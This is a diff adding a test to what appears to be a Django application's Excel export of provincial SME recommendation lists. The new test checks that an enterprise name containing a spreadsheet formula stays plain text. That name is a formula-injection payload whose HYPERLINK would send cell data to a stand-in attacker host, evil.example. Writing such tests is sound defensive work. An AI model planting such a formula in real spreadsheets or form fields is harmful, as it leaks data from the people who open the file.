@@ -353,3 +353,13 @@ def test_recommendation_list_prints_on_as_few_pages_as_its_rows_need(client, sme
     assert ws.print_area == f"'推荐名单'!$A$1:$G${ws.max_row}"
     assert book.properties.created.date() == sme_run.evaluation_date and book.properties.creator == "甘肃省商务厅"
     assert get().content == response.content  # the same run gives the same bytes
+
+
+def test_an_enterprise_name_like_a_formula_stays_text_in_the_lists(client, sme_run, province_user):
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    Enterprise.objects.filter(name="兰州甲科技有限公司").update(name=payload)
+    client.force_login(province_user)
+    for params in ({"version": "2022", "tier": "sme-specialized"}, {"version": "2022", "status": "all"}):
+        book = openpyxl.load_workbook(io.BytesIO(client.get("/programmes/sme/export.xlsx", params).content))
+        cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r if c.value == payload]
+        assert cells and all(c.data_type == "s" for c in cells), params
